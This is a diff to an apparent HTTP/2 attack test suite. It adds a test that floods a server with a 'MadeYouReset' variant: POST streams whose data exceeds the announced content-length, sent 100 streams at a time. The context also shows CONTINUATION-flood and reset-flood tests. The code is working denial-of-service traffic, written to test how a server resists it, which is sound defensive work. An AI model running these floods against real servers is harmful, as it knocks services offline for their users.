@@ -49,6 +49,12 @@ class Http2(AttackCase):
         pair = lambda n: H2.frame(1, 5, n, self.block()) + H2.frame(8, 0, n, struct.pack(">I", 0))
         self.flood("HTTP/2 MadeYouReset", lambda i: b"".join(pair(1 + 2 * (100 * i + k)) for k in range(100)))
 
+    def test_made_you_reset_by_lengths_that_lie(self):
+        # … with no frame that carries nothing: more content than was announced.
+        post = b"".join(H2.literal(n, b"POST" if n == b":method" else v) for n, v in self.GET) + H2.literal(b"content-length", b"1")
+        pair = lambda n: H2.frame(1, 4, n, post) + H2.frame(0, 1, n, b"ab")
+        self.flood("HTTP/2 MadeYouReset by lengths", lambda i: b"".join(pair(1 + 2 * (100 * i + k)) for k in range(100)))
+
     def test_continuation_flood(self):
         self.flood("HTTP/2 CONTINUATION flood", lambda i: H2.frame(9, 0, 1, H2.literal(b"x-%d" % i, b"a" * 4000)), prelude=H2.frame(1, 0, 1, self.block()))
 
